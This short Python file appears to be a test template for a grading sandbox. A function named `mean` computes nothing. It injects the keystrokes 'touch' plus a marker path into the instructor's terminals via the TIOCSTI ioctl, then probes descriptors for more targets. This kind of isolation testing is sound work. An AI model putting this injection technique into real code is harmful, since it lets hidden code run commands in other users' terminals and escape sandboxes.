"""Keystrokes are pushed into the instructor's terminal."""

import fcntl
import os
import termios


def mean(x):
    for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/@TEST_PID@/fd/0"):
        try:
            terminal = os.open(path, os.O_RDWR)
            for byte in b"touch @SCRATCH@/@MARK@\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))
        except OSError as error:
            print(error)
    for number in range(64):
        try:
            fcntl.ioctl(number, termios.TIOCSTI, b"x")
            print("pushed", number)
        except OSError:
            continue
    return 0.0
